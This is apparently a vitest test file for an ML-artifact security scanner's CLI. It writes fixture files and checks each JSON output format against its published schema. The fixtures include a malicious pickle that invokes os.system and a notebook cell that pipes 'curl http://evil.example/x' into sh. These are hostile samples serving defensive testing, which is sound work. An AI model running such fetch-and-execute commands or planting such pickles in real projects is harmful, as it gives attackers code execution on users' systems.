// Everything that the command prints as JSON, from real scans, against the schema that is published for it.

import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Ajv } from 'ajv';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { runProgram } from './program.ts';
import { recordedIo } from './recorded-io.ts';

const folder = mkdtempSync(path.join(tmpdir(), 'sentrascan-json-'));

beforeAll(() => {
  writeFileSync(path.join(folder, 'bad.pkl'), "cos\nsystem\n(S'id'\ntR.");
  writeFileSync(path.join(folder, 'torn.pkl'), "(S'ab");
  writeFileSync(path.join(folder, 'load.py'), 'import pickle\npickle.load(open("a.pkl", "rb"))\n');
  const source = ['import os\n', 'os.system("curl http://evil.example/x | sh")\n'];
  const cell = { cell_type: 'code', metadata: {}, execution_count: 1, outputs: [], source };
  writeFileSync(
    path.join(folder, 'train.ipynb'),
    JSON.stringify({ nbformat: 4, nbformat_minor: 4, metadata: {}, cells: [cell] }, undefined, 1),
  );
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

it.each([
  ['scan . --format json', 'report'],
  ['scan . --format summary', 'summary'],
  ['scan . --format mapping', 'mapping'],
  ['scan . --format detailed --no-hash --include *.pkl', 'detailed'],
  ['inspect . --format json', 'inspect'],
  ['rules --format json', 'rules'],
  ['formats --format json', 'formats'],
  ['limits --format json', 'limits'],
])('%s', async (typed, name) => {
  const io = recordedIo({ cwd: folder });
  await runProgram(
    typed.split(' ').map((word) => (word === '.' ? folder : word)),
    io,
  );
  const file = new URL(`../../../schemas/${name}.schema.json`, import.meta.url);
  const validate = new Ajv({ allowUnionTypes: true, allErrors: true }).compile(
    JSON.parse(readFileSync(file, 'utf8')),
  );
  validate(JSON.parse(io.out()));
  expect(validate.errors).toBeNull();
});
